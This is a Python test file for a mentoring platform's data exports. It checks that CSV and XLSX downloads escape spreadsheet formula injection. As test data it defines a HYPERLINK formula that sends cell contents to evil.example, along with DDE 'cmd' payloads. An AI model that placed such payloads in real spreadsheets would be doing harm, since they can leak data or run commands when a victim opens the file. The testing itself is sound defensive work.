"""Formula injection (#23): no CSV or XLSX the product writes holds a cell a spreadsheet would run.

Participants' free text and questionnaire labels reached CSV cells raw as ``=…`` and were stored as
real formulas in the XLSX, on the row holding that person's identity answers.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from pathlib import Path
from unittest import mock

import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from equimentor.evaluation import definitions
from equimentor.lib import cells
from equimentor.lib.cells import is_risky, neutral
from tests import evaluation_setup as es
from tests.relationships_setup import pair

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("https://evil.example/?"&D2,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text,cell",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        (DDE, "'" + DDE),
        (AT, "'" + AT),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1", "'\r'=1"),
        ("＝1+1", "'＝1+1"),
        ("Fine; =HYPERLINK(1)", "Fine; =HYPERLINK(1)"),  # a space first: text in any locale
        ("Fine;=HYPERLINK(1)", "Fine;'=HYPERLINK(1)"),  # a cell of its own where ; separates
        ("Better:\n- more meetings", "Better:\n'- more meetings"),
        ("-3", "-3"),
        ("+4 pts", "+4 pts"),
        ("-12.5%", "-12.5%"),
        ("<5", "<5"),
        ("A plain answer", "A plain answer"),
    ],
)
def test_neutral(text, cell):
    assert neutral(text) == cell


def test_numbers_and_empty_cells_stay_as_they_are():
    assert [neutral(v) for v in (-3, 2.5, None, True, "")] == [-3, 2.5, None, True, ""]


def test_no_module_writes_csv_or_xlsx_but_through_the_helper():
    """Static half: nothing in the product makes a CSV writer (or uses another spreadsheet
    writer) except ``equimentor/lib/cells.py``; the dynamic half below sees every row of every
    XLSX arrive as the helper's cells."""
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(|\bxlsxwriter\b|\bpyexcel|\bxlwt\b|\bodf\b")
    found = []
    for path in sorted((ROOT / "equimentor").rglob("*.py")):
        if path == ROOT / "equimentor/lib/cells.py":
            continue
        for n, line in enumerate(path.read_text().splitlines(), start=1):
            if writers.search(line):
                found.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert found == []


@pytest.fixture
def planted(client, scheme_a, alice, django_capture_on_commit_callbacks):
    """Formulas wherever people write what an export carries: free-text answers and "other",
    questionnaire texts and option labels, institution and scheme names."""
    from equimentor.schemes.models import Institution

    scheme_a.name = FORMULA
    scheme_a.save(update_fields=["name"])
    with django_capture_on_commit_callbacks(execute=True):
        mentors, mentees = pair(scheme_a, alice)
        qs = es.install(scheme_a, alice)
        es.matched(scheme_a, alice, [(mentors[0], mentees[0])])
    Institution.objects.filter(pk=mentees[0].institution_id).update(name=DDE)
    baseline = qs["aimms-baseline"].definition
    items = []
    for item in baseline["items"]:
        item = {**item, "text": f"{AT} {item['text']}"}
        if item["code"] == "challenged":
            item["options"] = [{**o, "label": FORMULA + o["code"]} for o in item["options"]]
        items.append(item)
    client.force_login(alice)
    saved = client.post(
        f"/manage/{scheme_a.slug}/evaluation/questionnaires/aimms-baseline/edit/",
        {"definition": definitions.dump({**baseline, "items": items})},
    )
    assert saved.status_code == 302
    questionnaire = scheme_a.questionnaires.get(code="aimms-baseline", is_active=True)
    es.add(
        questionnaire,
        [
            (
                "mentee",
                {
                    "challenged": "yes",
                    "challenged_why": (None, FORMULA),
                    "job_title": (None, "Lecturer;" + FORMULA),
                    "want": (["cv", "other"], DDE),
                },
            ),
            ("mentor", {"challenged": "no", "ethnicity": (None, "Fine\n" + AT)}),
        ],
    )
    return client


def _exports(slug):
    """Every CSV and XLSX download, by URL name (the test below checks this list is complete)."""
    evaluation = [
        (f"/manage/{slug}/evaluation/export/{fmt}/", fmt)
        for fmt in ("csv", "xlsx", "redcap-dictionary", "redcap-data")
    ]
    results = [
        (reverse("evaluation:results_export", args=[slug, "aimms-baseline", fmt]), fmt)
        for fmt in ("csv", "xlsx")
    ]
    reports = [(reverse("reports:export", args=[slug, fmt]), fmt) for fmt in ("csv", "xlsx")]
    relationships = [(reverse("relationships:manage_export", args=[slug]), "csv")]
    return {
        "evaluation:export": evaluation,
        "evaluation:results_export": results,
        "reports:export": reports,
        "relationships:manage_export": relationships,
    }


def test_the_list_of_exports_is_every_download_route():
    """A new export route fails here until it is added to ``_exports`` (other downloads are
    JSON, PDF and calendar files, which no spreadsheet runs)."""
    names = set()

    def walk(patterns, ns=""):
        for p in patterns:
            if hasattr(p, "url_patterns"):
                walk(p.url_patterns, f"{ns}{p.namespace}:" if p.namespace else ns)
            elif "export" in str(p.pattern) or re.search(r"\.(csv|xlsx)$", str(p.pattern)):
                names.add(ns + p.name)

    walk(get_resolver().url_patterns)
    others = {"privacy:export", "safeguarding:case_export"}  # JSON
    assert names - others == set(_exports("x"))


def _csv_cells(text: str):
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _semicolon_pieces(text: str):
    """What Excel shows as cells where ';' is the list separator: the raw lines split at ';'."""
    for line in text.splitlines():
        for piece in line.split(";"):
            yield piece.lstrip('"')


def test_every_export_is_free_of_formulas(planted, scheme_a):
    calls = {"csv": [], "append": []}
    real_writer, real_append = csv.writer, Worksheet.append

    def writer(*args, **kwargs):
        calls["csv"].append(inspect.stack()[1].filename)
        return real_writer(*args, **kwargs)

    def append(sheet, row):
        calls["append"].append(all(isinstance(c, Cell) for c in row))
        return real_append(sheet, row)

    seen_planted = 0
    with (
        mock.patch.object(csv, "writer", writer),
        mock.patch.object(Worksheet, "append", append),
    ):
        for _name, urls in _exports(scheme_a.slug).items():
            for url, fmt in urls:
                response = planted.get(url)
                assert response.status_code == 200, url
                if fmt == "xlsx":
                    book = load_workbook(io.BytesIO(response.content))
                    for sheet in book.worksheets:
                        for row in sheet.iter_rows():
                            for cell in row:
                                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                                if isinstance(cell.value, str) and is_risky(cell.value):
                                    assert cell.quotePrefix, (url, cell.coordinate, cell.value)
                                    seen_planted += 1
                else:
                    text = response.content.decode()
                    for value in _csv_cells(text):
                        assert not is_risky(value), (url, value)
                    for piece in _semicolon_pieces(text):
                        assert not is_risky(piece), (url, piece)
                    seen_planted += text.count("'=HYPERLINK") + text.count("'-2+3+cmd")
    assert seen_planted > 10  # the formulas reached the exports, neutralised
    assert calls["csv"] and set(calls["csv"]) == {cells.__file__}
    assert calls["append"] and all(calls["append"])


def test_xlsx_keeps_the_exact_words_as_text(planted, scheme_a):
    book = load_workbook(
        io.BytesIO(planted.get(f"/manage/{scheme_a.slug}/evaluation/export/xlsx/").content)
    )
    values = [c.value for row in book["Responses"].iter_rows() for c in row]
    assert FORMULA in values and DDE in values
